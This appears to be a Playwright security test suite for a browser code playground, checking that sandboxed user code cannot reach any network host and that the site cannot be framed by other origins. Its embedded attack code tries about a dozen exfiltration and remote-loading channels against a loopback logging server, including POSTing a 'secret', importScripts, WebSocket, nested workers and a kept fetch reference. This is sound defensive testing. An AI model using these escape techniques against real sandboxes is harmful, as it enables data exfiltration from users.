/**
 * Attack suite, network: user code must not reach any host. A logging server on another loopback
 * port counts every request that arrives; after every channel has been tried, it must have none.
 */
import { test, expect } from './fixtures.ts';
import { clickRun, type LoggingServer, openWithCode, pretendHardwareGpu, startLoggingServer } from './sandbox-helpers.ts';

let logger: LoggingServer;
test.beforeAll(async () => {
  logger = await startLoggingServer();
});
test.afterAll(async () => logger.close());

// Both kinds of sandbox worker: the Blob worker (cross-origin isolated here, WASM threads) and the
// data: worker a WebGPU choice gets (a secure context).
for (const [backend, kind] of [
  ['wasm', 'Blob worker, isolated'],
  ['webgpu', 'data: worker, secure context'],
] as const) {
  test(`every network channel from user code is refused with a readable error, and nothing reaches another host (${kind})`, async ({
    page,
    baseURL,
    guard,
  }) => {
    // The sandbox's CSP reports each refusal in the console; that is the expected outcome here.
    guard.allowConsoleError(/Content Security Policy|Refused to connect|Refused to load/);
    const far = logger.url;
    const code = `
import * as tf from '@tensorflow/tfjs';
import { log } from 'playground';
const g = globalThis as any;
const far = ${JSON.stringify(far)};
async function attempt(name: string, f: () => unknown) {
  try {
    const result = await f();
    log('LEAK: ' + name + ' ' + String(result).slice(0, 80));
  } catch (e) {
    log('blocked: ' + name + ' — ' + String((e as Error).message ?? e).slice(0, 160));
  }
}
const wait = (ms: number) => new Promise((r) => setTimeout(r, ms));
await attempt('fetch GET', async () => (await fetch(far + '/fetch-get')).text());
await attempt('fetch POST', async () => (await fetch(far + '/fetch-post', { method: 'POST', body: 'secret' })).text());
await attempt('fetch no-cors', async () => (await fetch(far + '/no-cors', { mode: 'no-cors' })).type);
await attempt('fetch Request', async () => (await fetch(new Request(far + '/request'))).text());
await attempt('fetch site', async () => (await fetch(${JSON.stringify(`${baseURL}/playground/`)})).text());
await attempt('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', far + '/xhr', false); x.send(); return x.responseText; });
await attempt('importScripts', () => { g.importScripts(far + '/import.js'); return g.leaked; });
await attempt('WebSocket', () => new Promise((res, rej) => { const ws = new WebSocket(far.replace('http', 'ws') + '/ws'); ws.onopen = () => res('open'); ws.onerror = () => rej(new Error('error event')); }));
await attempt('EventSource', () => new Promise((res, rej) => { const es = new g.EventSource(far + '/sse'); es.onopen = () => res('open'); es.onerror = () => rej(new Error('error event')); }));
// Channels the wrappers do not cover: the sandbox's CSP still refuses them.
await attempt('nested worker fetch', () => new Promise((res, rej) => {
  const src = 'fetch(' + JSON.stringify(far + '/nested') + ').then(r => postMessage("reached"), e => postMessage("refused: " + e))';
  const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
  w.onmessage = (m) => (String(m.data).startsWith('refused') ? rej(new Error(m.data)) : res(m.data));
}));
await attempt('font', async () => { const f = new FontFace('x', 'url(' + far + '/font.woff2)'); (g.fonts as any)?.add(f); await f.load(); return 'loaded'; });
await attempt('fetch kept before the guards', async () => { const f = Object.getPrototypeOf(g).fetch ?? g.fetch; return (await f.call(g, far + '/prototype')).status; });
await attempt('tf.loadLayersModel', async () => (await tf.loadLayersModel(far + '/model.json')).name);
// Local data still works.
log('blob ok: ' + await (await fetch(URL.createObjectURL(new Blob(['local'])))).text());
await wait(500);
log('done');
`;
    if (backend === 'webgpu') await pretendHardwareGpu(page);
    const { status, output } = await clickRun(await openWithCode(page, code, backend));
    expect(status).toMatch(/Finished/);
    expect(output).toContain('done');
    expect(output).not.toContain('LEAK');
    expect(output).toContain('blob ok: local');
    const blocked = output.split('\n').filter((l) => l.startsWith('blocked: '));
    expect(blocked).toHaveLength(13);
    // Readable: the guards name the channel and say what to use instead.
    for (const name of ['fetch GET', 'fetch POST', 'XMLHttpRequest', 'importScripts', 'WebSocket', 'EventSource']) {
      expect(blocked.find((l) => l.startsWith(`blocked: ${name} `))).toMatch(/is blocked: code in the playground cannot reach the network/);
    }
    expect(blocked.find((l) => l.startsWith('blocked: tf.loadLayersModel'))).toMatch(/fetch\(\) is blocked/);
    // What got past the wrappers was refused by the CSP, and the output says so.
    expect(output).toMatch(/A request \((connect-src|font-src)\) is blocked/);
    await page.waitForTimeout(1000);
    expect(logger.hits).toEqual([]);
  });
}

test('the sandbox document runs nothing unless it is sandboxed, and other sites cannot frame the pages', async ({ page, baseURL, guard }) => {
  guard.allowConsoleError(/frame-ancestors|Refused to display|X-Frame-Options/);
  // Framed without the sandbox attribute, sandbox.html has the site's origin: it must not start code.
  await page.goto('/playground/');
  const answered = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    frame.src = '/sandbox.html';
    document.body.append(frame);
    await new Promise((r) => frame.addEventListener('load', r, { once: true }));
    const channel = new MessageChannel();
    const control = new MessageChannel();
    const heard: unknown[] = [];
    channel.port1.onmessage = (e) => heard.push(e.data);
    control.port1.onmessage = (e) => heard.push(e.data);
    const source = 'onmessage = (e) => e.ports[0].postMessage({ origin: self.origin, idb: typeof indexedDB })';
    frame.contentWindow?.postMessage({ type: 'boot', source, port: channel.port2, control: control.port2 }, '*', [channel.port2, control.port2]);
    await new Promise((r) => setTimeout(r, 1500));
    return heard;
  });
  expect(answered).toEqual([]);

  // Another origin (the logging server) frames the playground: the browser refuses to show it.
  await page.goto(`${logger.url}/frame-our-site?target=${encodeURIComponent(`${baseURL}/playground/`)}`);
  await page.waitForTimeout(1500);
  const victim = page.frames().find((f) => f !== page.mainFrame());
  expect(victim?.url()).toMatch(/^chrome-error:/);
  expect(await victim?.evaluate(() => document.querySelector('[data-playground]') !== null).catch(() => false)).toBe(false);
});
